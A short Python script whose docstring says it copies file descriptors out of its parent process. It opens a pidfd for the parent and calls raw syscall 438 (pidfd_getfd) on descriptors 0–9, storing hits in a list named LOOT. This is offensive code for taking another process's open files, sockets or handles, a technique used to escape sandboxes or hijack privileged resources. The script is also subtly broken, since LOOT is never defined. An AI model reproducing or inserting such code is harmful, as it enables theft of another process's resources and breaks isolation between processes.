"""Copies descriptors out of its parent: pidfd_open, then pidfd_getfd."""
import contextlib
import ctypes
import os

libc = ctypes.CDLL(None)
for pid in (os.getppid(), os.getpid()):
    with contextlib.suppress(OSError):
        handle = os.pidfd_open(pid)
        LOOT += [(pid, fd) for fd in range(10) if libc.syscall(438, handle, fd, 0) >= 0]
